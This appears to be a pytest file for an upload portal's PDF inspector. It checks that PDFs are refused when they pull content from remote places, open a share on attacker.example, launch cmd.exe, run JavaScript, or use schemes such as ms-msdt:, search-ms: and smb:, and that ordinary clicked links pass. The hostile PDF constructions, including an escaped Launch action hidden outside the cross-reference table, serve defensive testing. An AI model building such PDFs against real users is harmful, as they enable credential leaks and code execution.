"""A PDF that takes content from another place when it is shown is refused; links that somebody clicks are not."""

import io
from itertools import pairwise

import pytest
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, NumberObject

from portal.adapters.inspection.inspection import inspect
from portal.platform.errors import FileKind, UploadReason, UploadRefused
from tests.parts import files, pdfs
from tests.parts.pdfs import action, changed, on_click, opens_with, text

REMOTE = "\\\\attacker.example\\share\\x.pdf"


def refused(content: bytes) -> UploadReason:
    with pytest.raises(UploadRefused) as raised:
        inspect(io.BytesIO(content), max_bytes=50_000_000)
    assert raised.value.kind is FileKind.PDF
    return raised.value.reason


def stream(writer: PdfWriter, **members: object) -> DecodedStreamObject:
    made = DecodedStreamObject()
    made.set_data(b"q Q")
    made.update({NameObject(f"/{key}"): value for key, value in members.items()})
    return writer._add_object(made)


def draws(**members: object) -> pdfs.Change:
    """The first page draws something with these members."""

    def change(writer: PdfWriter) -> None:
        one = stream(writer, Type=NameObject("/XObject"), Subtype=NameObject("/Form"), **members)
        resources = writer.pages[0]["/Resources"].get_object()
        resources[NameObject("/XObject")] = DictionaryObject({NameObject("/X9"): one})

    return change


def nothing_leads_to(one: DictionaryObject) -> pdfs.Change:
    return lambda writer: writer._add_object(one)


URL_FILE = DictionaryObject(
    {NameObject("/FS"): NameObject("/URL"), NameObject("/F"): text("https://attacker.example/")}
)
REFERENCE = DictionaryObject({NameObject("/F"): text(REMOTE), NameObject("/Page"): NumberObject(0)})
OPI = DictionaryObject({NameObject("/2.0"): DictionaryObject({NameObject("/F"): text(REMOTE)})})


@pytest.mark.parametrize(
    "change",
    [draws(F=text(REMOTE)), draws(F=URL_FILE), draws(Ref=REFERENCE), draws(OPI=OPI)],
    ids=["external stream", "external stream by URL", "reference XObject", "OPI"],
)
@pytest.mark.parametrize("packed", [False, True])
def test_content_from_another_place(change: pdfs.Change, packed: bool) -> None:
    content = changed(change)
    assert refused(pdfs.packed(content) if packed else content) == UploadReason.LOADS


def in_the_catalogue(**members: object) -> pdfs.Change:
    return lambda writer: writer.root_object.update({NameObject(f"/{key}"): one for key, one in members.items()})


PROFILE = DictionaryObject(
    {NameObject("/DestOutputProfileRef"): DictionaryObject({NameObject("/URLs"): ArrayObject()})}
)
SLIDES = DictionaryObject({NameObject("/Names"): ArrayObject()})


@pytest.mark.parametrize(
    "change",
    [
        in_the_catalogue(OutputIntents=ArrayObject([PROFILE])),
        in_the_catalogue(AF=ArrayObject([URL_FILE])),
        in_the_catalogue(AlternatePresentations=SLIDES),
    ],
    ids=["a profile of colours", "a file that belongs to it, by URL", "a slide show"],
)
@pytest.mark.parametrize("packed", [False, True])
def test_what_belongs_to_it_is_in_another_place(change: pdfs.Change, packed: bool) -> None:
    content = changed(change)
    assert refused(pdfs.packed(content) if packed else content) == UploadReason.LOADS


@pytest.mark.parametrize("member", ["NA", "PA"])
def test_a_step_of_a_presentation_that_goes_somewhere(member: str) -> None:
    step = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/NavNode"),
            NameObject(f"/{member}"): action("URI", URI="https://attacker.example/"),
        }
    )
    assert (
        refused(changed(lambda writer: writer.pages[0].update({NameObject("/PresSteps"): step}))) == UploadReason.ACTIVE
    )


WEB = action("URI", URI="https://attacker.example/")


def steps(*members: DictionaryObject) -> pdfs.Change:
    """The first page has steps of a presentation that lead to each other, without a type, which it may leave out."""

    def change(writer: PdfWriter) -> None:
        added = [writer._add_object(one) for one in members]
        for one, following in pairwise(added):
            one.get_object()[NameObject("/Next")] = following
            following.get_object()[NameObject("/Prev")] = one
        writer.pages[0][NameObject("/PresSteps")] = added[0]

    return change


def step(**members: object) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in members.items()})


@pytest.mark.parametrize("one", [WEB, action("GoToR", F="x.pdf")], ids=["the web", "a file"])
@pytest.mark.parametrize("member", ["NA", "PA"])
@pytest.mark.parametrize("before", [0, 1, 5])
def test_a_step_that_does_not_say_that_it_is_one(member: str, one: DictionaryObject, before: int) -> None:
    tame = [step(NA=action("GoTo", D="first")) for _ in range(before)]
    content = changed(steps(*tame, step(**{member: one})))
    assert refused(content) == UploadReason.ACTIVE
    assert refused(pdfs.packed(content)) == UploadReason.ACTIVE


def test_steps_that_stay_in_the_document_pass() -> None:
    content = changed(steps(*[step(NA=action("GoTo", D="first"), Dur=NumberObject(1)) for _ in range(20)]))
    assert inspect(io.BytesIO(content), max_bytes=50_000_000).extension == "pdf"


def test_steps_without_end() -> None:
    assert (
        refused(changed(steps(*[step(NA=action("GoTo", D="first")) for _ in range(200)]))) == UploadReason.TOO_INVOLVED
    )


@pytest.mark.parametrize("name", ["Print", "SaveAs"])
def test_it_prints_or_saves_by_itself(name: str) -> None:
    one = action("Named", N=NameObject(f"/{name}"))
    assert refused(changed(opens_with(one))) == UploadReason.ACTIVE
    assert inspect(io.BytesIO(changed(on_click(one))), max_bytes=50_000_000).extension == "pdf"


@pytest.mark.parametrize("kind", ["Thread", "GoToR"])
def test_another_file_that_is_opened_with_it(kind: str) -> None:
    assert refused(changed(opens_with(action(kind, F=REMOTE, D="x")))) == UploadReason.ACTIVE
    chained = action("GoTo", D="first", Next=ArrayObject([action(kind, F=REMOTE)]))
    assert refused(changed(opens_with(chained))) == UploadReason.ACTIVE


@pytest.mark.parametrize(
    "one",
    [
        action("JavaScript", JS="app.alert(1)"),
        action("Launch", F="cmd.exe"),
        action("Thread", F=REMOTE),
        action("GoToR", F=REMOTE),
        action("SubmitForm", F="https://attacker.example/"),
    ],
    ids=lambda one: one["/S"][1:],
)
@pytest.mark.parametrize("packed", [False, True])
def test_an_action_that_no_page_leads_to(one: DictionaryObject, packed: bool) -> None:
    content = changed(nothing_leads_to(one))
    assert refused(pdfs.packed(content) if packed else content) == UploadReason.ACTIVE


def test_an_action_that_calls_itself_a_part_of_the_structure() -> None:
    one = action("Launch", F="cmd.exe")
    one[NameObject("/Type")] = NameObject("/StructElem")
    assert refused(pdfs.packed(changed(on_click(one)))) == UploadReason.ACTIVE


def test_an_action_outside_of_every_table_whose_name_is_escaped() -> None:
    hidden = b"\n99 0 obj\n<< /Type /Action /S /L#61unc#68 /F (cmd.exe) >>\nendobj\n"
    content = files.real("cv.pdf")
    at = content.rindex(b"startxref")
    assert refused(content[:at] + hidden + content[at:]) == UploadReason.ACTIVE


@pytest.mark.parametrize(
    "one",
    [
        *(
            action("URI", URI=address)
            for address in (
                "file://attacker.example/x.exe",
                "file:////attacker.example/x.exe",
                "file:///\\\\attacker.example\\x.exe",
                "file:///c:/\\attacker.example/x",
                "file:x.exe",
                "\\\\attacker.example\\x",
                "//attacker.example/x",
                " \\\\attacker.example\\x",
                "javascript:alert(1)",
                "Java\tScript:alert(1)",
                "vbscript:x",
                "data:text/html,x",
                "ms-msdt:/id x",
                "search-ms:query=x",
                "smb://attacker.example/x",
            )
        ),
        action("GoToR", F=REMOTE, D="x"),
        action("GoToR", F="/attacker.example/share/x.pdf", D="x"),
        action("GoToR", F=DictionaryObject({NameObject("/F"): text("x.pdf"), NameObject("/UF"): text(REMOTE)}), D="x"),
        action("Thread", F=REMOTE, D=NumberObject(0)),
    ],
)
@pytest.mark.parametrize("packed", [False, True])
def test_a_link_to_another_machine_or_a_program(one: DictionaryObject, packed: bool) -> None:
    content = changed(on_click(one))
    assert refused(pdfs.packed(content) if packed else content) == UploadReason.ACTIVE


def test_addresses_that_start_from_another_machine() -> None:
    base = DictionaryObject({NameObject("/Base"): text("file://attacker.example/share/")})
    assert refused(changed(in_the_catalogue(URI=base))) == UploadReason.ACTIVE
    base = DictionaryObject({NameObject("/Base"): text("https://marit.example/")})
    assert inspect(io.BytesIO(changed(in_the_catalogue(URI=base))), max_bytes=50_000_000).extension == "pdf"


ADDRESSES = [
    "https://marit.example/",
    "HTTP://marit.example/?next=file://x",
    "mailto:marit@post.example",
    "tel:+4730901820",
    "skype:marit?chat",
    "www.linkedin.example/in/marit",
    "marit.example:8080/cv",
    "#top",
    "file:///C:\\Users\\Marit\\Documents\\linkedin.example\\in\\marit",
]
"""The last as word processors write a link without https://."""


@pytest.mark.parametrize(
    "one",
    [
        *(action("URI", URI=address) for address in ADDRESSES),
        action("GoToR", F="other.pdf", D="x"),
        action("GoToR", F=DictionaryObject({NameObject("/F"): text("www.linkedin.example/in/marit")}), D="x"),
        action("Thread", D=NumberObject(0)),
    ],
)
def test_a_link_that_somebody_clicks_passes(one: DictionaryObject) -> None:
    assert inspect(io.BytesIO(changed(on_click(one))), max_bytes=50_000_000).extension == "pdf"


def test_an_article_of_its_own_may_be_opened() -> None:
    content = changed(opens_with(action("Thread", D=NumberObject(0))))
    assert inspect(io.BytesIO(content), max_bytes=50_000_000).extension == "pdf"


def test_a_link_whose_page_was_deleted_passes() -> None:
    content = changed(nothing_leads_to(pdfs.annotation("Link", A=action("URI", URI="https://marit.example/"))))
    assert inspect(io.BytesIO(content), max_bytes=50_000_000).extension == "pdf"


def test_a_page_that_a_shared_tree_lists_many_times_is_counted_once() -> None:
    found = inspect(io.BytesIO(pdfs.shared_page_tree()), max_bytes=50_000_000)
    assert found.pages == 1
